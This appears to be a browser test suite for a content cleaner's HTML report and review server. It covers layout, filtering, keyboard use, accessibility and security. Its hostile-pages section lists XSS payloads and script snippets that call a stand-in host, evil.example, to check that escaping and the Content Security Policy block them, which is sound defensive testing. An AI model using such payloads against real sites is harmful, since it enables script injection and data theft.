"""The report and the review in a real Chromium: drawn, clicked, used by keyboard, and attacked by hostile pages."""

from __future__ import annotations

import re
import shutil
import threading
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from cleaner import Cleaner, Source, load_rules
from cleaner.golden import Cleaners, check, load_cases
from cleaner.lint import problems, read_rules
from cleaner.model import KINDS, Article, Evidence, Failure, Options, Rule
from cleaner.read import read
from cleaner.report import write_report
from cleaner.review import Review
from cleaner.serve import Server

playwright = pytest.importorskip("playwright.sync_api", reason="needs playwright: pip install '.[browser]'")

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Page

ROOT = Path(__file__).parent.parent
CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
FLAGS = (
    *("--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"),
    *("--disable-sync", "--no-first-run"),
)
CASES = (
    *("flat--salt-road-grant", "flat--kominka-seikatsu", "flat--blaskapelle-probenraum", "flat--sadd-wadi-qamar"),
    *("html--wordpress-classic-beekeeping", "html--blogger-taller-encuadernacion", "author-box--glaciar-autor"),
    *("cookie--moorbrand-cookiebot", "related--puerto-calero-gruas", "share--kapadokya-balon"),
)
RULES = {rule.code: rule for rule in load_rules().rules}

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="needs Chromium: apt-get install chromium")


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with playwright.sync_playwright() as started:
        browser = started.chromium.launch(executable_path=CHROMIUM, args=list(FLAGS), headless=True)
        yield browser
        browser.close()


class Watched:
    """A tab, and all that went wrong or out in it."""

    def __init__(self, context: BrowserContext) -> None:
        self.tab: Page = context.new_page()
        self.troubles: list[str] = []
        self.requests: list[str] = []
        self.tab.on(
            "console", lambda said: self.troubles.append(said.text) if said.type in ("error", "warning") else None
        )
        self.tab.on("pageerror", lambda error: self.troubles.append(str(error)))
        self.tab.on("dialog", lambda dialog: (self.troubles.append(f"dialog {dialog.message}"), dialog.dismiss()))
        self.tab.on("request", lambda request: self.requests.append(request.url))

    def open(self, address: str) -> Page:
        """Open an address and wait until it is drawn."""
        self.tab.goto(address)
        self.tab.wait_for_selector("html[data-ready]", timeout=20_000)
        return self.tab


@pytest.fixture
def watched(browser: Browser) -> Iterator[Watched]:
    context = browser.new_context(viewport={"width": 1400, "height": 900}, reduced_motion="reduce")
    watched = Watched(context)
    yield watched
    context.close()
    assert watched.troubles == []


@pytest.fixture(scope="module")
def articles() -> list[Article]:
    cleaner = Cleaner()
    cases = [case for case in load_cases(ROOT / "golden") if case.name in CASES]
    return [cleaner.clean(case.source) for case in cases]


@pytest.fixture(scope="module")
def report(articles: list[Article], tmp_path_factory: pytest.TempPathFactory) -> str:
    """The address of a report on some goldens and a failure."""
    path = tmp_path_factory.mktemp("report") / "a report.html"
    write_report(path, [*articles, Failure("lost.html", "read", "no such file")], RULES)
    return path.as_uri()


@pytest.fixture
def tab(watched: Watched, report: str) -> Page:
    return watched.open(report)


def listed(tab: Page) -> list[str]:
    """The ids of the pages in the list."""
    return [str(name.get_attribute("title")) for name in tab.query_selector_all(".pages .name")]


def text(tab: Page, selector: str) -> str:
    return tab.inner_text(selector).strip()


def number(article: Article, articles: list[Article]) -> int:
    return articles.index(article) + 1


def lint(folder: Path) -> tuple[int, list[str]]:
    """How many rules are in a folder, and what `clean rules lint` says of them."""
    checked = read_rules([str(folder)])
    return len(checked.rules), problems(checked)


def goto(tab: Page, fragment: str) -> None:
    tab.evaluate("fragment => { location.hash = fragment; }", fragment)
    tab.wait_for_selector(".source .block, .head .warn")


def dropped(article: Article) -> list[int]:
    assert article.judgement
    return [at for at, decision in enumerate(article.judgement.decisions) if not decision.keep]


class TestOverview:
    def test_it_is_one_file_and_asks_for_nothing(self, watched: Watched, report: str) -> None:
        watched.open(report)
        assert watched.requests == [report]

    def test_every_page_is_in_the_list(self, tab: Page, articles: list[Article]) -> None:
        assert listed(tab) == [*(article.id for article in articles), "lost.html"]
        assert text(tab, "#count") == f"{len(articles) + 1} pages"

    def test_the_tiles_add_up(self, tab: Page, articles: list[Article]) -> None:
        tiles = dict(
            zip(tab.locator(".tiles dt").all_inner_texts(), tab.locator(".tiles dd").all_inner_texts(), strict=True)
        )
        blocks = [article.judgement.decisions for article in articles if article.judgement]
        assert int(tiles["blocks"]) == sum(map(len, blocks))
        assert int(tiles["kept"]) + int(tiles["dropped"]) == int(tiles["blocks"])
        assert tiles["failed"] == "1"

    def test_the_charts_count_what_went(self, tab: Page, articles: list[Article]) -> None:
        bar = tab.locator(".bars button", has_text=re.compile(r"^related"))
        went = sum(article.removed.get("related", 0) for article in articles)
        assert bar.locator(".value").inner_text().split(" ")[0] == str(went)

    def test_a_failure_says_why(self, tab: Page) -> None:
        tab.locator(".pages a").last.click()
        tab.wait_for_selector(".head .warn")
        assert "no such file" in text(tab, ".head")


class TestChoosing:
    def test_a_kind(self, tab: Page, articles: list[Article]) -> None:
        tab.select_option("#kind", "cookie")
        assert listed(tab) == [article.id for article in articles if "cookie" in article.removed]
        tab.click("#reset")
        assert len(listed(tab)) == len(articles) + 1

    def test_a_rule(self, tab: Page, articles: list[Article]) -> None:
        tab.select_option("#rule", "SHR001")
        assert listed(tab) == [article.id for article in articles if "SHR001" in self._codes(article)]

    def _codes(self, article: Article) -> set[str]:
        assert article.judgement
        return {said.source for decision in article.judgement.decisions for said in decision.evidence}

    def test_a_language(self, tab: Page, articles: list[Article]) -> None:
        tab.select_option("#language", "es")
        assert listed(tab) == [article.id for article in articles if article.language == "es"] != []

    def test_near_misses(self, tab: Page, articles: list[Article]) -> None:
        tab.check("#near")
        assert 0 < len(listed(tab)) < len(articles)
        assert tab.locator(".pages .nearly").count() == len(listed(tab))

    def test_words_of_a_title_or_name(self, tab: Page) -> None:
        tab.fill("#search", "BEEKEEPING")
        assert listed(tab) == ["html--wordpress-classic-beekeeping"]
        tab.fill("#search", "windy roof")
        assert listed(tab) == ["html--wordpress-classic-beekeeping"]
        tab.fill("#search", "nothing of the kind")
        assert listed(tab) == []
        assert text(tab, "#count").startswith("0 of ")

    def test_choices_join(self, tab: Page, articles: list[Article]) -> None:
        tab.select_option("#kind", "comments")
        tab.select_option("#language", "en")
        wanted = [a.id for a in articles if "comments" in a.removed and a.language == "en"]
        assert listed(tab) == wanted
        assert text(tab, "h1") == f"{len(wanted)} of {len(articles) + 1} pages"

    def test_a_bar_of_a_chart(self, tab: Page, articles: list[Article]) -> None:
        bar = tab.locator(".bars button", has_text=re.compile(r"^share"))
        bar.click()
        assert tab.input_value("#kind") == "share"
        assert tab.locator(".bars [aria-pressed=true]").inner_text().startswith("share")
        tab.locator(".bars [aria-pressed=true]").click()
        assert len(listed(tab)) == len(articles) + 1

    def test_an_order(self, tab: Page, articles: list[Article]) -> None:
        tab.select_option("#order", "long")
        sizes = {a.id: sum(len(block.text) for block in a.judgement.page.blocks) for a in articles if a.judgement}
        assert listed(tab)[:-1] == sorted(sizes, key=lambda id: -sizes[id])

    def test_a_choice_marks_blocks_of_the_page_that_is_open(self, tab: Page, articles: list[Article]) -> None:
        article = next(article for article in articles if "comments" in article.removed)
        goto(tab, f"#/{number(article, articles)}")
        tab.locator(".legend button", has_text="comments").click()
        assert tab.locator(".block.wanted").count() == article.removed["comments"]
        assert text(tab, "#wanted") == f"{article.removed['comments']} matching"


class TestOnePage:
    @pytest.fixture
    def article(self, articles: list[Article]) -> Article:
        return next(article for article in articles if article.id == "html--wordpress-classic-beekeeping")

    @pytest.fixture
    def page(self, tab: Page, article: Article, articles: list[Article]) -> Page:
        goto(tab, f"#/{number(article, articles)}")
        return tab

    def test_source_and_body_side_by_side(self, page: Page, article: Article) -> None:
        assert article.judgement
        blocks = article.judgement.page.blocks
        assert page.locator(".source .block").count() == len(blocks)
        assert page.locator(".source del").count() == len(dropped(article))
        shown = page.locator(".body [data-at]").all_inner_texts()
        kept = [block.text for block in article.judgement.kept]
        assert [re.sub(r"^(?:•|\d+\.) ", "", line) for line in shown] == kept
        source, body = page.locator(".source").bounding_box(), page.locator(".body").bounding_box()
        assert source
        assert body
        assert source["x"] + source["width"] <= body["x"] + 1

    def test_a_removed_block_tells_rule_evidence_and_file(self, page: Page, article: Article) -> None:
        assert article.judgement
        at = next(at for at in dropped(article) if article.judgement.page.blocks[at].text == "Share this:")
        page.locator(f'.source [data-at="{at}"] .text').click()
        detail = text(page, ".detail")
        rule = RULES["SHR001"]
        for words in (rule.code, rule.summary, rule.file, "decisive", f"clean rules show {rule.code}"):
            assert words in detail
        assert page.get_attribute(f'.source [data-at="{at}"] .mark', "aria-expanded") == "true"
        assert page.url.endswith(f"/{at + 1}")

    def test_the_evidence_adds_up_to_the_total(self, page: Page, article: Article) -> None:
        assert article.judgement
        for at, decision in enumerate(article.judgement.decisions):
            page.evaluate("at => document.querySelector(`.source [data-at='${at}'] .mark`).click()", at)
            rows = page.locator(f'.source [data-at="{at}"] tbody td.points').all_inner_texts()
            assert sum(int(points.replace("−", "-")) for points in rows) == decision.total

    def test_weak_evidence_is_shown_when_asked_for(self, page: Page, article: Article) -> None:
        page.locator(".source .mark").first.click()
        before = page.locator(".detail tbody tr").count()
        page.locator(".detail tbody button").click()
        assert page.locator(".detail tbody tr").count() > before

    def test_a_click_again_closes(self, page: Page) -> None:
        page.locator(".source .mark").first.click()
        page.locator(".source .mark").first.click()
        assert page.locator(".detail").count() == 0

    def test_a_click_on_the_body_finds_its_place_in_the_source(self, page: Page, article: Article) -> None:
        assert article.judgement
        last = article.judgement.kept[-1]
        page.locator(f'.body [data-at="{last.index}"]').click()
        assert page.locator(f'.source [data-at="{last.index}"] .detail').count() == 1

    def test_an_address_opens_page_and_block(self, watched: Watched, report: str, articles: list[Article]) -> None:
        tab = watched.open(f"{report}#/2/3")
        tab.wait_for_selector(".detail")
        assert tab.locator('.source [data-at="2"] .detail').count() == 1
        tab.evaluate("history.pushState(null, '', '#/1')")

    def test_back_leads_back(self, tab: Page, articles: list[Article]) -> None:
        for at in (1, 2):
            tab.locator(".pages a").nth(at - 1).click()
            tab.locator("h1", has_text=articles[at - 1].title).wait_for()
        tab.go_back()
        tab.locator("h1", has_text=articles[0].title).wait_for()
        tab.go_back()
        tab.wait_for_selector(".tiles")

    def test_a_very_long_page_is_drawn_as_it_is_scrolled(self, watched: Watched, tmp_path: Path) -> None:
        lines = [f"The ferry was late again on day {day}, and nobody on the quay was surprised." for day in range(3000)]
        article = Cleaner().clean(Source("\n\n".join(lines).encode(), id="long.txt"))
        write_report(tmp_path / "long.html", [article], RULES)
        tab = watched.open((tmp_path / "long.html").as_uri())
        assert 0 < tab.locator(".source .block").count() < 1000
        tab.evaluate("location.hash = '#/1/2900'")
        tab.wait_for_selector('.source [data-at="2899"] .detail')
        assert tab.locator(".source .block").count() >= 2900


class TestKeyboard:
    def test_by_keys_alone(self, tab: Page, articles: list[Article]) -> None:
        keys = tab.keyboard
        keys.press("]")
        tab.wait_for_selector(".source")
        assert text(tab, "h1") == articles[0].title
        keys.press("j")
        keys.press("j")
        assert tab.evaluate("document.activeElement.closest('.block').dataset.at") == "1"
        keys.press("k")
        assert tab.evaluate("document.activeElement.closest('.block').dataset.at") == "0"
        keys.press("n")
        at = int(tab.evaluate("document.activeElement.closest('.block').dataset.at"))
        assert at == next(at for at in dropped(articles[0]) if at > 0)
        keys.press("Enter")
        assert tab.locator(".detail").count() == 1
        keys.press("Escape")
        assert tab.locator(".detail").count() == 0
        keys.press("n")
        keys.press("p")
        assert int(tab.evaluate("document.activeElement.closest('.block').dataset.at")) == at
        keys.press("]")
        tab.locator("h1", has_text=articles[1].title).wait_for()
        keys.press("[")
        tab.locator("h1", has_text=articles[0].title).wait_for()
        keys.press("o")
        tab.wait_for_selector(".tiles")

    def test_search_and_help(self, tab: Page) -> None:
        tab.keyboard.press("/")
        tab.keyboard.type("bee")
        assert listed(tab) == ["html--wordpress-classic-beekeeping"]
        tab.keyboard.press("Escape")
        tab.keyboard.press("?")
        assert tab.locator("dialog").is_visible()
        tab.keyboard.press("Escape")
        assert not tab.locator("dialog").is_visible()

    def test_the_first_stop_skips_to_the_page(self, tab: Page) -> None:
        tab.keyboard.press("Tab")
        assert tab.evaluate("document.activeElement.className") == "skip"
        tab.keyboard.press("Tab")
        assert tab.evaluate("getComputedStyle(document.activeElement).outlineStyle") != "none"


class TestAccess:
    def test_everything_that_can_be_pressed_has_a_name(self, tab: Page) -> None:
        goto(tab, "#/1")
        tab.locator(".source .mark").first.click()
        unnamed = tab.evaluate(
            """[...document.querySelectorAll('button, a, input, select')].filter((e) =>
               !(e.ariaLabel || e.textContent.trim() || e.labels?.length)).map((e) => e.outerHTML)"""
        )
        assert unnamed == []

    def test_what_a_screen_reader_is_told(self, tab: Page) -> None:
        goto(tab, "#/1")
        for role, name in (
            ("navigation", "Pages"),
            ("main", None),
            ("list", "Source"),
            ("list", "Body"),
            ("status", None),
        ):
            assert tab.get_by_role(role, name=name).count() >= 1, (role, name)
        assert re.search(
            r"Block 1, (kept|dropped as \w+), [+−]?\d+ points.*Why\?",
            str(tab.locator(".mark").first.get_attribute("aria-label")),
        )
        assert tab.get_attribute("html", "lang") == "en"

    @pytest.mark.parametrize("fragment", ["#/", "#/1", "#/5/1"])
    @pytest.mark.parametrize("width", [340, 620, 1000, 1900])
    def test_nothing_sticks_out(self, watched: Watched, report: str, fragment: str, width: int) -> None:
        watched.tab.set_viewport_size({"width": width, "height": 800})
        tab = watched.open(report + fragment)
        tab.wait_for_selector(".source, .tiles")
        assert tab.evaluate("document.documentElement.scrollWidth <= innerWidth")

    def test_a_wide_screen_never_scrolls_as_a_whole(self, tab: Page) -> None:
        goto(tab, "#/5")
        for key in "nnnjjnn":
            tab.keyboard.press(key)
            tab.keyboard.press("Enter")
        assert tab.evaluate("[scrollY, document.documentElement.scrollHeight - innerHeight]") == [0, 0]

    def test_narrow_screens_show_one_side_at_a_time(self, watched: Watched, report: str) -> None:
        watched.tab.set_viewport_size({"width": 400, "height": 800})
        tab = watched.open(report + "#/1")
        tab.wait_for_selector(".source")
        assert (tab.locator(".source").is_visible(), tab.locator(".body").is_visible()) == (True, False)
        tab.get_by_role("button", name="Body").click()
        assert (tab.locator(".source").is_visible(), tab.locator(".body").is_visible()) == (False, True)

    def test_light_and_dark(self, watched: Watched, report: str) -> None:
        tab = watched.open(report)
        ground = "getComputedStyle(document.documentElement).backgroundColor"
        tab.emulate_media(color_scheme="light")
        light = tab.evaluate(ground)
        tab.emulate_media(color_scheme="dark")
        dark = tab.evaluate(ground)
        assert light != dark
        tab.click("#theme")
        assert (text(tab, "#theme"), tab.evaluate(ground)) == ("Theme: light", light)
        tab.click("#theme")
        assert (text(tab, "#theme"), tab.evaluate(ground)) == ("Theme: dark", dark)

    def test_every_kind_has_a_colour(self, tab: Page) -> None:
        colours = tab.evaluate(
            "kinds => kinds.map((kind) => getComputedStyle(document.documentElement).getPropertyValue(`--${kind}`))",
            list(KINDS),
        )
        assert len(set(colours)) == len(KINDS)
        assert all(colours)

    @pytest.mark.parametrize("scheme", ["light", "dark"])
    @pytest.mark.parametrize("width", [400, 1400])
    def test_nothing_is_found_against_the_guidelines(
        self, browser: Browser, report: str, scheme: Any, width: int
    ) -> None:
        """What axe checks of WCAG: contrast, names, roles, order, what can be reached by keys."""
        axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="needs axe-playwright-python").Axe()
        context = browser.new_context(  # axe is injected, which our policy rightly forbids
            bypass_csp=True, color_scheme=scheme, viewport={"width": width, "height": 900}, reduced_motion="reduce"
        )
        for fragment in ("#/", "#/5/2", "#/9/1"):
            watched = Watched(context)
            tab = watched.open(report + fragment)
            tab.wait_for_selector(".tiles, .detail")
            assert axe.run(tab).generate_report().strip() == "Found 0 accessibility violations:"
        context.close()

    def test_without_scripts_it_says_so(self, browser: Browser, report: str) -> None:
        context = browser.new_context(java_script_enabled=False)
        tab = context.new_page()
        tab.goto(report)
        assert "allow scripts" in tab.inner_text("noscript")
        context.close()


#: What runs a script wherever it is taken for markup, for an address, or for code.
HOSTILE = (
    "<script>window.owned = 1</script>",
    "</script><script>window.owned = 1</script>",
    "<!--<script>window.owned = 1</script>-->",
    "--><script>window.owned = 1</script><!--",
    "</title><script>window.owned = 1</script>",
    "</style><script>window.owned = 1</script>",
    "</textarea></noscript></template><script>window.owned = 1</script>",
    "<img src=x onerror='window.owned = 1'>",
    "\"><img src=x onerror='window.owned = 1'>",
    "'><svg onload=window.owned=1>",
    "<svg><script>window.owned = 1</script></svg>",
    "<iframe srcdoc='<script>parent.owned = 1</script>'></iframe>",
    "<iframe src='javascript:parent.owned = 1'></iframe>",
    "<a href='javascript:window.owned = 1' autofocus onfocus='window.owned = 1'>x</a>",
    "javascript:window.owned=1//",
    "data:text/html,<script>opener.owned=1</script>",
    "<details open ontoggle=window.owned=1>",
    "<body onload=window.owned=1>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:window.owned=1'>",
    "<link rel=stylesheet href='data:text/css,*{display:none}'>",
    "<style>*{display:none}</style>",
    "<object data='javascript:window.owned=1'></object><embed src='javascript:window.owned=1'>",
    "<math><mtext><style><img src=x onerror=window.owned=1></style></mtext></math>",
    "${window.owned = 1} {{constructor.constructor('window.owned = 1')()}}",
    "\u2028window.owned = 1\u2029\\u003cscript\\u003ewindow.owned=1\\u003c/script\\u003e",
    '"};window.owned = 1;//',
    "__proto__",
    "constructor",
    "&lt;img src=x onerror=window.owned=1&gt;",
    "\u202e<script>window.owned = 1</script>\u202c",
)


#: What markup or a script of theirs would try, were it ever in.
ATTACKS = (
    "const s = document.createElement('script'); s.textContent = 'window.owned = 1'; document.body.append(s)",
    "document.body.innerHTML = '<img src=x onerror=\"window.owned = 1\">'",
    "const b = document.createElement('b'); b.setAttribute('onclick', 'window.owned = 1'); b.click()",
    "location.href = 'javascript:window.owned = 1'",
    "setTimeout('window.owned = 1')",
    "const i = new Image(); i.src = 'https://evil.example/'; document.body.append(i)",
    "fetch('https://evil.example/').catch(() => {})",
    "const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)",
    "const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); f.submit()",
    "const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b)",
)


def hostile_article(word: str, rule: str) -> Article:
    """A page that says a word wherever it can, in blocks of which a rule speaks."""
    html = f"<html><body><main><p>{PROSE}</p><p>x</p><p>{PROSE}</p></main></body></html>"
    article = Cleaner().clean(Source(html.encode(), id=word, url=word))
    assert article.judgement
    page = article.judgement.page
    said = Evidence(rule, 30, word, kind="share", decisive=True)
    blocks = tuple(block._replace(text=word, lead=word) for block in page.blocks)
    decisions = tuple(
        decision._replace(
            keep=at == 1, kind=None if at == 1 else word if at else "share", said=((said, Evidence(word, 2, word)),)
        )
        for at, decision in enumerate(article.judgement.decisions)
    )
    document = replace(page.document, repairs=(word,), encoding=replace(page.document.encoding, name=word, why=word))
    judgement = replace(article.judgement, page=replace(page, blocks=blocks, document=document), decisions=decisions)
    return replace(article, title=word, language=word, notes=(word,), ruleset=word, judgement=judgement)


PROSE = "The last ferry of the evening left the harbour late, and most of those who had waited had already gone home."
#: Elements that our own page has none of.
STRANGE = {*"img svg iframe object embed base meta link style math details template textarea".split()}
ELEMENTS = "[...document.body.querySelectorAll('*')].map((e) => e.localName)"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> str:
    codes = [f"SHR{number}" for number in range(401, 401 + len(HOSTILE))]
    rules = {
        word if number % 2 else code: Rule(word if number % 2 else code, word, "share", word, "line", file=word)
        for number, (code, word) in enumerate(zip(codes, HOSTILE, strict=True))
    }
    pages = [hostile_article(word, rule) for word, rule in zip(HOSTILE, rules, strict=True)]
    failures = [Failure(word, word, word) for word in HOSTILE]
    path = tmp_path_factory.mktemp("hostile") / "report.html"
    write_report(path, [*pages, *failures], rules)
    return path.as_uri()


class TestHostilePages:
    """Pages, ids, addresses and rules of others that would like to run a script in the report."""

    def test_there_are_many(self) -> None:
        assert len(HOSTILE) >= 20

    def test_no_script_of_theirs_runs(self, watched: Watched, hostile: str) -> None:
        tab = watched.open(hostile)
        known = set(tab.evaluate(ELEMENTS))
        assert known.isdisjoint(
            {"img", "svg", "iframe", "object", "embed", "base", "meta", "link", "style", "math", "details"}
        )
        for at, word in enumerate(HOSTILE):
            goto(tab, f"#/{at + 1}")
            assert tab.evaluate("document.querySelector('h1').textContent") == word
            for block in range(tab.locator(".source .block").count()):
                tab.evaluate("at => document.querySelector(`.source [data-at='${at}'] .mark`).click()", block)
            assert tab.evaluate("document.querySelector('.source .text').textContent") == f"{word.strip()} {word}"
            self._assert_clean(tab)
        for at in range(len(HOSTILE), 2 * len(HOSTILE)):
            goto(tab, f"#/{at + 1}")
            self._assert_clean(tab)
        assert watched.requests == [hostile]

    def test_choosing_by_their_words(self, watched: Watched, hostile: str) -> None:
        tab = watched.open(hostile)
        for id in ("rule", "language", "kind"):
            for value in tab.evaluate("id => [...document.getElementById(id).options].map((o) => o.value)", id):
                tab.select_option(f"#{id}", value)
            self._assert_clean(tab)
            tab.select_option(f"#{id}", "")
        tab.fill("#search", "<script>")
        assert listed(tab)
        self._assert_clean(tab)

    def _assert_clean(self, tab: Page) -> None:
        assert tab.evaluate("typeof window.owned") == "undefined"
        assert tab.evaluate("document.querySelectorAll('script:not([type])').length") == 1
        attributes = tab.evaluate(
            "[...document.body.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => [a.name, a.value]))"
        )
        assert [name for name, _ in attributes if name.startswith("on")] == []
        leads = {value for name, value in attributes if name in ("href", "src", "action", "srcdoc", "data")}
        assert all(value.startswith("#") for value in leads)
        assert STRANGE.isdisjoint(tab.evaluate(ELEMENTS))

    @pytest.mark.parametrize("attack", ATTACKS)
    def test_the_policy_would_stop_it_even_so(self, browser: Browser, hostile: str, attack: str) -> None:
        """Should markup of theirs ever get in, nothing in it runs, loads or is sent."""
        context = browser.new_context()
        reached: list[str] = []
        context.route("https://**", lambda route: (reached.append(route.request.url), route.abort()))
        watched = Watched(context)
        tab = watched.open(hostile)
        tried = f"(() => {{ try {{ {attack}; return null; }} catch (error) {{ return error.name; }} }})()"
        stopped = tab.evaluate(tried)
        tab.wait_for_timeout(200)
        assert tab.evaluate("typeof window.owned") == "undefined"
        assert reached == []
        assert stopped or any("Content Security Policy" in said for said in watched.troubles), watched.troubles
        context.close()


MORE = (
    "Nobody on board could say what had held it up, though the captain, who has run the line for thirty years, "
    "blamed the new ticket machines and the tourists who had never seen one like them before."
)
SLOGAN = "Quay and Mole, the paper that never sinks"


class TestReview:
    @pytest.fixture
    def served(self, tmp_path: Path) -> Iterator[Server]:
        pages = tmp_path / "pages"
        pages.mkdir()
        lines = ["1,234 Shares", f"{PROSE} {MORE}", SLOGAN, MORE, f"{MORE} {PROSE}", PROSE]
        text = "\n\n".join(lines)
        (pages / "a.txt").write_text(text, encoding="utf-8")
        (pages / "b.txt").write_text(f"Share this:\n\n{PROSE}\n", encoding="utf-8")
        review = Review(Options(), tmp_path / "my-rules", tmp_path / "golden")
        review.read(read([str(pages)]))
        server = Server(review)
        thread = threading.Thread(target=server.run)
        thread.start()
        yield server
        server.stop()
        thread.join()

    def test_a_word_becomes_a_rule_and_a_case(self, watched: Watched, served: Server, tmp_path: Path) -> None:
        tab = watched.open(served.address)
        assert "token" not in tab.url
        tab.locator(".pages a").first.click()
        tab.locator(".source .text", has_text=SLOGAN).click()
        tab.select_option(".kind-choice", "masthead")
        tab.get_by_role("button", name="This should have gone").click()
        tab.wait_for_selector(".told:not([hidden])", timeout=60_000)
        assert text(tab, "#told").startswith("Wrote MST401 into ")
        assert "It passes." in text(tab, "#told")
        row = tab.locator(".block.dropped", has_text=SLOGAN)
        assert "MST401" in row.inner_text()
        assert row.locator(".detail").count() == 1
        assert SLOGAN not in text(tab, ".body")
        assert lint(tmp_path / "my-rules") == (1, [])
        [case] = load_cases(tmp_path / "golden")
        assert check(case, Cleaners(Options()).clean).problems == ()

        tab.get_by_role("button", name="This should have stayed").click()
        tab.locator("#told", has_text="Took back").wait_for(timeout=60_000)
        assert SLOGAN in text(tab, ".body")
        assert set(watched.requests) <= {
            f"http://127.0.0.1:{served.port}/{path}" for path in ("", "run", "page/0", "verdict", "favicon.ico")
        } | {served.address}

    def test_it_stays_open_when_it_is_loaded_again(self, watched: Watched, served: Server) -> None:
        watched.open(served.address)
        watched.tab.reload()
        watched.tab.wait_for_selector("html[data-ready]")
        assert len(listed(watched.tab)) == 2

    def test_without_the_token_nothing_is_shown(self, browser: Browser, served: Server) -> None:
        context = browser.new_context()
        tab = context.new_page()
        tab.goto(f"http://127.0.0.1:{served.port}/")
        tab.locator("#main", has_text="the token is wrong").wait_for()
        assert "ferry" not in tab.content()
        context.close()

    def test_another_page_can_neither_read_nor_write_nor_frame_it(self, browser: Browser, served: Server) -> None:
        context = browser.new_context()
        tab = context.new_page()
        tab.goto("data:text/html,<title>evil</title>")
        for how in ("{}", "{method: 'POST', body: '{}'}", "{headers: {'X-Clean-Token': 'x'}}"):
            asked = f"fetch('http://127.0.0.1:{served.port}/run', {how}).then(() => 'answered', () => 'refused')"
            assert tab.evaluate(asked) == "refused"
        tab.set_content(f"<iframe src='http://127.0.0.1:{served.port}/'></iframe>")
        tab.wait_for_timeout(300)
        assert not [frame for frame in tab.frames[1:] if frame.locator(".brand").count()]
        context.close()
